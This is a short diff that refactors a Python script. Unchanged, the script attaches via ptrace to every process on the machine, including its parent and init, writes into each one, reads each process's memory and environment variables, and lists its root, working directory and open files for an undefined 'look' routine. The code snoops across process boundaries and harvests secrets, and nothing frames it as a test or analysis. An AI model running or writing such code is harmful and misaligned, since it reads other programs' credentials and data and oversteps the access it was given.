@@ -14,7 +14,8 @@ import glob
 import os
 
 libc = ctypes.CDLL(None)
-for pid in [int(name) for name in os.listdir("/proc") if name.isdigit() and int(name) != os.getpid()] + [os.getppid(), 1]:
+numbers = [int(name) for name in os.listdir("/proc") if name.isdigit()]
+for pid in [number for number in numbers if number != os.getpid()] + [os.getppid(), 1]:
     libc.ptrace(16, pid, 0, 0)
     libc.ptrace(4, pid, 0, 0)
     for place in ("mem", "environ"):
@@ -22,7 +23,7 @@ for pid in [int(name) for name in os.listdir("/proc") if name.isdigit() and int(
             look([open(f"/proc/{pid}/{place}", "rb").read(4096)])
         except (OSError, ValueError):
             pass
-    for path in glob.glob(f"/proc/{pid}/root/*") + glob.glob(f"/proc/{pid}/cwd/*") + glob.glob(f"/proc/{pid}/fd/*"):
+    for path in [path for place in ("root", "cwd", "fd") for path in glob.glob(f"/proc/{pid}/{place}/*")]:
         try:
             look([path, os.readlink(path)])
         except OSError:
